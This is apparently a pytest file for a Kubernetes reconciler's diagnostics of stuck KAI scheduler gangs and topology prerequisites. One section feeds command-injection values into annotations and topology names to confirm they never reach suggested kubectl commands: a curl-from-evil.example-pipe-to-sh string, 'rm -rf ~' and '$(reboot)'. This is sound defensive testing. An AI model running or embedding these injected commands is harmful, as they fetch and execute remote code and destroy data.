"""Stuck gangs (KAI-T-001..003) and topology prerequisites (KAI-T-004..007), from live objects shaped as KAI
v0.17.0 writes them (tests/fixtures/kai/scheduling.run.ai_podgroups.yaml: status.schedulingConditions[] with
type, nodePool, reason, message, reasons[]{reason, message}) and as the NVCF stack renders the topology
objects (tests/fixtures/nvcf/golden/kai-topology.yaml, grove-cluster-topology-binding.yaml)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from reconciler.checks.gangs import gang_findings
from reconciler.model.gangs import domain_of
from tests.support.helpers import (
    FIXTURES,
    addon_config,
    crd,
    desired_for,
    kai_crds,
    live_state,
    obj,
    run_cli,
    snapshot_file,
)

NS = "nvcf-fn-7c1e"
NVCF_NAMESPACE = obj("v1", "Namespace", NS, metadata={"labels": {"nvca.nvcf.nvidia.io/workload-instance-type": "x"}})
GOLDEN = FIXTURES / "nvcf" / "golden"


def member(
    name: str, *, gang: str = "pg-trainer-0a1b", phase: str = "Pending", requests: dict[str, str] | None = None
) -> dict[str, Any]:
    asked = requests if requests is not None else {"cpu": "8", "nvidia.com/gpu": "4"}
    return obj(
        "v1",
        "Pod",
        name,
        NS,
        metadata={"annotations": {"pod-group-name": gang}},
        spec={
            "schedulerName": "kai-scheduler",
            "containers": [{"name": "main", "image": "x", "resources": {"requests": asked}}],
        },
        status={"phase": phase},
    )


def pod_group(
    name: str = "pg-trainer-0a1b", *, conditions: list[dict[str, Any]] | None = None, topology: str | None = None
) -> dict[str, Any]:
    spec: dict[str, Any] = {"minMember": 4, "queue": "default-queue"}
    if topology:
        spec["topologyConstraint"] = {"topology": topology, "requiredTopologyLevel": "nvidia.com/gpu.clique"}
    return obj(
        "scheduling.run.ai/v2alpha2", "PodGroup", name, NS, spec=spec, status={"schedulingConditions": conditions or []}
    )


OVER_LIMIT = {
    "type": "UnschedulableOnNodePool",
    "nodePool": "default",
    "status": "True",
    "reason": "Unschedulable",
    "message": "deprecated text",
    "transitionID": "3",
    "lastTransitionTime": "2026-12-01T10:00:00Z",
    "reasons": [
        {
            "reason": "OverLimit",
            "message": "podgroup would exceed queue 'default-queue' limit of 8 GPUs",
            "details": {"queueDetails": {"name": "default-queue"}},
        }
    ],
}


def event(pod_name: str, message: str, reason: str = "Unschedulable") -> dict[str, Any]:
    return obj(
        "v1",
        "Event",
        f"{pod_name}.1",
        NS,
        reason=reason,
        message=message,
        involvedObject={"kind": "Pod", "name": pod_name, "namespace": NS},
        lastTimestamp="2026-12-01T10:00:00Z",
    )


def found(items: list[dict[str, Any]], desired: Any = None, rule: str | None = None) -> list[Any]:
    live = live_state([NVCF_NAMESPACE, *kai_crds(), *items])
    return [f for f in gang_findings(live, desired, "live") if rule is None or f.rule_id == rule]


# -- KAI-T-001 ---------------------------------------------------------------------------------------------------


def test_an_unschedulable_pod_group_is_explained_with_members_requests_pools_and_the_fix() -> None:
    members = [member(f"trainer-{i}") for i in range(4)]
    [f] = found([pod_group(conditions=[OVER_LIMIT]), *members], rule="KAI-T-001")
    assert f.message == (
        f"PodGroup {NS}/pg-trainer-0a1b (queue default-queue, minMember 4) cannot be placed on node pool(s) default: "
        "node pool default: OverLimit: podgroup would exceed queue 'default-queue' limit of 8 GPUs. Pending: 4 of 4 "
        "members (trainer-0, trainer-1, trainer-2 and 1 more), asking 4 x {cpu=8, nvidia.com/gpu=4}. Fix: raise the "
        "queue's limit, or wait for its other workloads to finish"
    )
    assert str(f.subject) == f"PodGroup/{NS}/pg-trainer-0a1b"
    assert f.extra["nodePools"] == ["default"] and f.extra["reasons"] == ["OverLimit"]
    assert f.fix.command.startswith(f"kubectl -n {NS} get podgroups.scheduling.run.ai pg-trainer-0a1b -o yaml")


def test_the_deprecated_reason_and_message_stand_in_when_no_structured_reason_is_given() -> None:
    condition = {
        "type": "UnschedulableOnNodePool",
        "nodePool": "gb200",
        "status": "True",
        "reason": "Unschedulable",
        "message": "Requested topology nvcf-mnnvl-topology does not exist",
    }
    [f] = found([pod_group(conditions=[condition]), member("trainer-0")], rule="KAI-T-001")
    assert "node pool gb200: Unschedulable: Requested topology nvcf-mnnvl-topology does not exist" in f.message
    assert f.message.endswith("Fix: free or add capacity in the named node pools, or shrink the gang")


def test_a_placed_gang_or_a_stale_condition_of_bound_pods_is_not_reported() -> None:
    assert found([pod_group(), member("trainer-0")], rule="KAI-T-001") == []
    running = [member(f"trainer-{i}", phase="Running") for i in range(4)]
    assert found([pod_group(conditions=[OVER_LIMIT]), *running], rule="KAI-T-001") == []


# -- KAI-T-002 ---------------------------------------------------------------------------------------------------


def test_pending_members_events_make_one_finding_per_gang() -> None:
    members = [member(f"trainer-{i}") for i in range(3)] + [member("other-0", gang="pg-other-9f")]
    said = "0/5 nodes are available: 5 Insufficient nvidia.com/gpu."
    events = [event(f"trainer-{i}", said) for i in range(3)] + [
        event("other-0", "queue default-queue is over limit", reason="FailedScheduling")
    ]
    gangs = found([pod_group(), pod_group("pg-other-9f"), *members, *events], rule="KAI-T-002")
    assert [(str(f.subject), f.message) for f in gangs] == [
        (
            f"PodGroup/{NS}/pg-other-9f",
            f"gang {NS}/pg-other-9f: 1 of 1 members Pending (other-0); the scheduler "
            "says: queue default-queue is over limit",
        ),
        (
            f"PodGroup/{NS}/pg-trainer-0a1b",
            f"gang {NS}/pg-trainer-0a1b: 3 of 3 members Pending (trainer-0, "
            f"trainer-1, trainer-2); the scheduler says: 3 pod(s): {said}",
        ),
    ]


def test_pending_members_without_events_or_pods_of_no_gang_give_no_gang_finding() -> None:
    plain = obj("v1", "Pod", "solo", NS, spec={"schedulerName": "kai-scheduler"}, status={"phase": "Pending"})
    assert found([pod_group(), member("trainer-0"), plain, event("solo", "no nodes")], rule="KAI-T-002") == []


def test_the_condition_and_the_events_of_one_gang_are_one_problem() -> None:
    from reconciler.findings.problems import group_problems

    gang = found([pod_group(conditions=[OVER_LIMIT]), member("trainer-0"), event("trainer-0", "over limit")])
    assert [f.rule_id for f in gang] == ["KAI-T-001", "KAI-T-002"]
    [problem] = group_problems(gang)
    assert problem.rule_ids == ["KAI-T-001", "KAI-T-002"]


# -- KAI-T-003 ---------------------------------------------------------------------------------------------------


def test_pending_pods_naming_a_missing_pod_group() -> None:
    [f] = found([member("trainer-0", gang="pg-gone"), member("trainer-1", gang="pg-gone")], rule="KAI-T-003")
    assert f.message == (
        f"2 Pending pod(s) in {NS} (trainer-0, trainer-1) name PodGroup pg-gone in their "
        "pod-group-name, and it does not exist: the scheduler never places them"
    )


def test_a_present_pod_group_or_an_unserved_kind_is_not_a_missing_one() -> None:
    assert found([pod_group("pg-here"), member("trainer-0", gang="pg-here")], rule="KAI-T-003") == []
    live = live_state([NVCF_NAMESPACE, member("trainer-0", gang="pg-gone")])  # no PodGroup CRD at all
    assert [f for f in gang_findings(live, None, "live") if f.rule_id == "KAI-T-003"] == []


# -- names from the cluster in commands ---------------------------------------------------------------------------

HOSTILE = "pg; curl -s http://evil.example/x | sh #"


def test_a_pod_group_name_no_object_could_bear_gets_no_command_and_is_shown_escaped() -> None:
    """pod-group-name is a free-text annotation: it reaches the findings, never a command to paste."""
    items = [member("trainer-0", gang=HOSTILE), event("trainer-0", "0/5 nodes are available")]
    pending, missing = found(items)
    assert (pending.rule_id, missing.rule_id) == ("KAI-T-002", "KAI-T-003")
    assert pending.fix.command is None and missing.fix.command is not None  # KAI-T-003's names only the namespace
    assert "curl" not in missing.fix.command
    assert pending.message.startswith(f"gang {NS}/{HOSTILE!r}: 1 of 1 members Pending")
    assert f"name PodGroup {HOSTILE!r} in their pod-group-name" in missing.message
    newline = found([member("trainer-0", gang="pg\nrm -rf ~"), event("trainer-0", "x")], rule="KAI-T-002")[0]
    assert newline.fix.command is None and "\n" not in newline.message


def test_a_topology_name_from_a_pod_group_is_quoted_or_refused_in_the_command() -> None:
    [topology] = found([pod_group(topology="t$(reboot)")], rule="KAI-T-004")
    assert topology.fix.command is None and "Topology 't$(reboot)' does not exist" in topology.message
    [good] = found([pod_group(topology="nvcf-mnnvl-topology")], rule="KAI-T-004")
    assert good.fix.command == "kubectl get topologies.kai.scheduler nvcf-mnnvl-topology -o yaml"


def test_doctor_prints_and_reports_no_command_built_from_a_hostile_annotation(tmp_path: Path) -> None:
    items = [
        NVCF_NAMESPACE,
        *kai_crds(),
        pod_group(),
        member("trainer-0", gang=HOSTILE),
        event("trainer-0", "0/5 nodes are available"),
    ]
    snapshot = snapshot_file(tmp_path, items)
    code, out, err = run_cli(["doctor", "--snapshot", snapshot])
    assert code == 2, err
    assert not [line for line in out.splitlines() if "run:" in line and "evil.example" in line], out
    code, out, err = run_cli(["doctor", "--snapshot", snapshot, "-o", "json"])
    assert "evil.example" in out  # the finding still names the gang
    commands = [f["fix"]["command"] for f in _json_findings(json.loads(out)) if f["fix"]["command"]]
    assert commands and not [c for c in commands if "evil.example" in c]


def _json_findings(report: Any) -> list[dict[str, Any]]:
    if isinstance(report, dict):
        if "rule" in report and "fix" in report:
            return [report]
        return [f for value in report.values() for f in _json_findings(value)]
    if isinstance(report, list):
        return [f for value in report for f in _json_findings(value)]
    return []


# -- topology prerequisites ----------------------------------------------------------------------------------------


def golden(name: str) -> dict[str, Any]:
    from ruamel.yaml import YAML

    loaded: dict[str, Any] = YAML(typ="safe", pure=True).load((GOLDEN / name).read_text())
    return loaded


TAS_ENV = (
    "addons:\n  kaiScheduler:\n    enabled: true\n  topologyAwareScheduling:\n    enabled: true\n"
    "  groveOperator:\n    enabled: {grove}\n"
)
CLIQUE_NODE = obj(
    "v1",
    "Node",
    "gb200-1",
    metadata={"labels": {"nvidia.com/gpu.clique": "c0a1.1", "kubernetes.io/hostname": "gb200-1"}},
)
PREREQUISITES = [
    golden("kai-topology.yaml"),
    golden("grove-cluster-topology-binding.yaml"),
    CLIQUE_NODE,
    crd("clustertopologybindings.grove.io"),
    crd("computedomains.resource.nvidia.com"),
]


def tas_desired(tmp_path: Path, *, grove: bool = True) -> Any:
    env = TAS_ENV.format(grove=str(grove).lower())
    return desired_for(tmp_path, {"kai-gitops.yaml": addon_config(), "env.yaml": env})


def rule_ids(items: list[dict[str, Any]], desired: Any = None) -> list[str]:
    return [f.rule_id for f in found(items, desired)]


def test_with_topology_aware_scheduling_off_nothing_is_required(tmp_path: Path) -> None:
    off = desired_for(
        tmp_path, {"kai-gitops.yaml": addon_config(), "env.yaml": "addons:\n  kaiScheduler:\n    enabled: true\n"}
    )
    assert rule_ids([], off) == [] and rule_ids([]) == []


def test_every_prerequisite_missing_when_git_turns_it_on(tmp_path: Path) -> None:
    findings = found([], tas_desired(tmp_path))
    assert [(f.rule_id, f.message.split(":")[0]) for f in findings] == [
        ("KAI-T-004", "Topology nvcf-mnnvl-topology does not exist"),
        ("KAI-T-005", "ClusterTopologyBinding nvcf-mnnvl-topology-binding cannot exist"),
        (
            "KAI-T-006",
            "no node of the 0 read is labelled kubernetes.io/hostname, a level of Topology nvcf-mnnvl-topology",
        ),
        (
            "KAI-T-006",
            "no node of the 0 read is labelled nvidia.com/gpu.clique, a level of Topology "
            "nvcf-mnnvl-topology (the GPU operator's feature discovery labels NVLink nodes with their "
            "clique)",
        ),
        ("KAI-T-007", "CRD computedomains.resource.nvidia.com is not installed"),
    ]
    assert findings[0].location is not None and findings[0].location.file == "env.yaml"


def test_every_prerequisite_present_as_the_stack_renders_it(tmp_path: Path) -> None:
    assert rule_ids(PREREQUISITES, tas_desired(tmp_path)) == []


def test_a_topology_or_binding_that_differs_from_the_render(tmp_path: Path) -> None:
    topology, binding = golden("kai-topology.yaml"), golden("grove-cluster-topology-binding.yaml")
    topology["spec"]["levels"] = [{"nodeLabel": "kubernetes.io/hostname"}]
    binding["spec"]["levels"][0]["domain"] = "clique"
    items = [topology, binding, *PREREQUISITES[2:]]
    t4, t5 = found(items, tas_desired(tmp_path))
    assert t4.message.startswith(
        "Topology nvcf-mnnvl-topology has levels ['kubernetes.io/hostname'], the stack "
        "renders ['nvidia.com/gpu.clique', 'kubernetes.io/hostname']"
    )
    assert t5.message.startswith(
        "ClusterTopologyBinding nvcf-mnnvl-topology-binding has levels "
        "[clique=nvidia.com/gpu.clique, hostname=kubernetes.io/hostname], the stack renders "
        "[gpuclique=nvidia.com/gpu.clique, hostname=kubernetes.io/hostname]"
    )


def test_without_grove_no_binding_is_expected(tmp_path: Path) -> None:
    items = [golden("kai-topology.yaml"), CLIQUE_NODE, crd("computedomains.resource.nvidia.com")]
    assert rule_ids(items, tas_desired(tmp_path, grove=False)) == []


def test_a_binding_grove_reports_drifted() -> None:
    binding = golden("grove-cluster-topology-binding.yaml")
    binding["status"] = {
        "conditions": [
            {
                "type": "SchedulerTopologyDrift",
                "status": "True",
                "reason": "Drift",
                "message": "levels differ from topology nvcf-mnnvl-topology",
            }
        ]
    }
    [f] = found([*PREREQUISITES[:1], binding, *PREREQUISITES[2:]], rule="KAI-T-005")
    assert (
        "is out of sync with the scheduler's topology, Grove reports (Drift: levels differ from topology "
        "nvcf-mnnvl-topology)"
    ) in f.message


def test_a_scheduler_topology_grove_reports_out_of_sync() -> None:
    binding = golden("grove-cluster-topology-binding.yaml")
    binding["status"] = {
        "schedulerTopologyStatuses": [
            {
                "schedulerName": "kai-scheduler",
                "topologyReference": "nvcf-mnnvl-topology",
                "inSync": False,
                "message": "level 0 differs",
                "schedulerBackendTopologyObservedGeneration": 1,
            }
        ]
    }
    [f] = found([*PREREQUISITES[:1], binding, *PREREQUISITES[2:]], rule="KAI-T-005")
    assert "(kai-scheduler topology nvcf-mnnvl-topology not in sync: level 0 differs)" in f.message
    binding["status"]["schedulerTopologyStatuses"][0]["inSync"] = True
    assert found([*PREREQUISITES[:1], binding, *PREREQUISITES[2:]], rule="KAI-T-005") == []


def test_without_git_a_pod_group_naming_a_missing_topology_turns_the_checks_on() -> None:
    findings = found([pod_group(topology="nvcf-mnnvl-topology"), CLIQUE_NODE])
    assert [f.rule_id for f in findings] == ["KAI-T-004", "KAI-T-007"]
    assert findings[0].message.startswith(
        f"Topology nvcf-mnnvl-topology does not exist, and PodGroup(s) {NS}/pg-trainer-0a1b name it"
    )


def test_a_live_topology_needs_its_level_labels_on_nodes() -> None:
    bare = obj("v1", "Node", "cpu-1", metadata={"labels": {"kubernetes.io/hostname": "cpu-1"}})
    [f] = found([golden("kai-topology.yaml"), bare, crd("computedomains.resource.nvidia.com")])
    assert f.rule_id == "KAI-T-006" and "labelled nvidia.com/gpu.clique" in f.message
    assert f.fix.command == "kubectl get nodes -L nvidia.com/gpu.clique"


@pytest.mark.parametrize(
    ("label", "domain"),
    [
        ("nvidia.com/gpu.clique", "gpuclique"),
        ("kubernetes.io/hostname", "hostname"),
        ("topology.kubernetes.io/zone", "zone"),
    ],
)
def test_domains_are_named_as_the_stack_names_them(label: str, domain: str) -> None:
    assert domain_of(label) == domain


# -- doctor --------------------------------------------------------------------------------------------------------

STUCK = [
    NVCF_NAMESPACE,
    *kai_crds(),
    pod_group(conditions=[OVER_LIMIT]),
    member("trainer-0"),
    member("trainer-1"),
    event("trainer-0", "0/5 nodes are available"),
    event("trainer-1", "0/5 nodes are available"),
]


def test_doctor_explains_a_stuck_gang_in_its_gang_section(tmp_path: Path) -> None:
    code, out, err = run_cli(["doctor", "--snapshot", snapshot_file(tmp_path, STUCK)])
    assert code == 2, err
    section = out.split("Gangs (PodGroups, Pending members, topology prerequisites):\n", 1)[1].split("\n\n", 1)[0]
    lines = section.splitlines()
    assert lines[0] == "  ✗ PodGroups with Pending members placed by the scheduler KAI-T-001"
    assert lines[1].startswith(
        f"      PodGroup {NS}/pg-trainer-0a1b (queue default-queue, minMember 4) cannot be "
        "placed on node pool(s) default: node pool default: OverLimit: "
    )
    assert "Pending: 2 of 2 members (trainer-0, trainer-1), asking 2 x {cpu=8, nvidia.com/gpu=4}" in lines[1]
    assert lines[2].startswith(f"      run: kubectl -n {NS} get podgroups.scheduling.run.ai pg-trainer-0a1b -o yaml")
    assert lines[3] == "  ✗ Gang members not Pending with scheduling failures KAI-T-002"
    assert lines[4] == (
        f"      gang {NS}/pg-trainer-0a1b: 2 of 2 members Pending (trainer-0, trainer-1); the "
        "scheduler says: 2 pod(s): 0/5 nodes are available"
    )
    assert "  ✓ Gang members name an existing PodGroup KAI-T-003" in lines
    assert "  ✓ GPU DRA driver's CRDs present for topology-aware scheduling KAI-T-007" in lines


def test_doctor_json_carries_the_gang_findings_and_a_healthy_cluster_shows_every_check_passed(tmp_path: Path) -> None:
    code, out, _ = run_cli(["doctor", "--snapshot", snapshot_file(tmp_path, STUCK), "-o", "json"])
    assert code == 2
    report = json.loads(out)
    gang = [f for f in report["findings"] if f["rule"].startswith("KAI-T-")]
    assert [f["rule"] for f in gang] == ["KAI-T-001", "KAI-T-002"]
    assert gang[0]["details"]["pending"] == ["trainer-0", "trainer-1"]
    assert gang[0]["details"]["nodePools"] == ["default"] and gang[0]["problem"] == gang[1]["problem"]
    assert {"KAI-T-001", "KAI-T-007"} <= {r["id"] for r in report["rules"]}
    code, out, _ = run_cli(["doctor", "--snapshot", snapshot_file(tmp_path, [*kai_crds()], name="healthy")])
    section = out.split("Gangs (PodGroups, Pending members, topology prerequisites):\n", 1)[1].split("\n\n", 1)[0]
    assert [line[:3] for line in section.splitlines()] == ["  ✓"] * 7


# -- the live read (the stand-in API server) -------------------------------------------------------------------------


def test_live_read_lists_pod_groups_once_reuses_the_pod_reads_and_snapshots_equal_live(tmp_path: Path) -> None:
    """PodGroups cost one paged list; their members come from the pod reads a cluster already gets, and a
    snapshot keeps what the gang checks read (annotation, requests, scheduling conditions)."""
    from reconciler.sources.cluster import ReadSettings
    from reconciler.sources.snapshot_writer import snapshot_command
    from tests.support.cluster_source import write_kubeconfig
    from tests.support.kubeserver import KubeTestServer

    with KubeTestServer() as server:
        server.register_kai_and_nvca_kinds()
        server.register_kind(
            "grove.io", "v1alpha1", "ClusterTopologyBinding", "clustertopologybindings", namespaced=False
        )
        kube_system = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "kube-system"}}
        server.add_many(
            [
                NVCF_NAMESPACE,
                kube_system,
                *[i for i in STUCK[2:] if i["kind"] != "Event"],
                golden("kai-topology.yaml"),
                golden("grove-cluster-topology-binding.yaml"),
            ]
        )
        server.add_many([i for i in STUCK if i["kind"] == "Event"])
        kubeconfig = str(write_kubeconfig(tmp_path / "kc", {"live": server.url}, current="live"))
        code, live, err = run_cli(["doctor", "--kubeconfig", kubeconfig, "-o", "json"])
        assert code == 2, err
        lists = [r for r in server.requests if r.method == "GET" and not r.query.get("continue")]
        snapshot = tmp_path / "snap.yaml"
        snapshot_command(str(snapshot), kubeconfig, None, settings=ReadSettings(attempts=1))
    podgroup_lists = [r for r in lists if r.path == "/apis/scheduling.run.ai/v2alpha2/podgroups"]
    pod_lists = [r for r in lists if r.path.endswith("/pods")]
    assert len(podgroup_lists) == 1
    assert sorted(r.path for r in pod_lists) == sorted(
        ["/api/v1/namespaces/kai-scheduler/pods", "/api/v1/pods", f"/api/v1/namespaces/{NS}/pods"]
    )
    assert {r.query.get("fieldSelector") for r in lists if r.path == "/api/v1/events"} == {
        "involvedObject.kind=Pod,reason=Unschedulable",
        "involvedObject.kind=Pod,reason=FailedScheduling",
    }
    code, saved, err = run_cli(["doctor", "--snapshot", snapshot, "-o", "json"])
    gang = [
        [(f["rule"], f["message"]) for f in json.loads(report)["findings"] if f["rule"].startswith("KAI-T-")]
        for report in (live, saved)
    ]
    # no node at all: neither level's label is on one
    assert gang[0] == gang[1] and sorted(rule for rule, _ in gang[0]) == [
        "KAI-T-001",
        "KAI-T-002",
        "KAI-T-006",
        "KAI-T-006",
        "KAI-T-007",
    ]
    text = snapshot.read_text()
    assert "pod-group-name: pg-trainer-0a1b" in text and "UnschedulableOnNodePool" in text
    assert "nvcf-mnnvl-topology-binding" in text


def test_diff_reports_the_stuck_gang_and_the_missing_topology_beside_the_drift(tmp_path: Path) -> None:
    from tests.support.helpers import make_repo

    repo, _ = make_repo(
        tmp_path / "repo", {"kai-gitops.yaml": addon_config(), "env.yaml": TAS_ENV.format(grove="false")}
    )
    code, out, err = run_cli(["diff", "--repo", repo, "--snapshot", snapshot_file(tmp_path, STUCK), "-o", "json"])
    assert code == 2, err
    rules = [f["rule"] for f in json.loads(out)["findings"] if f["rule"].startswith("KAI-T-")]
    assert sorted(rules) == ["KAI-T-001", "KAI-T-002", "KAI-T-004", "KAI-T-006", "KAI-T-006", "KAI-T-007"]
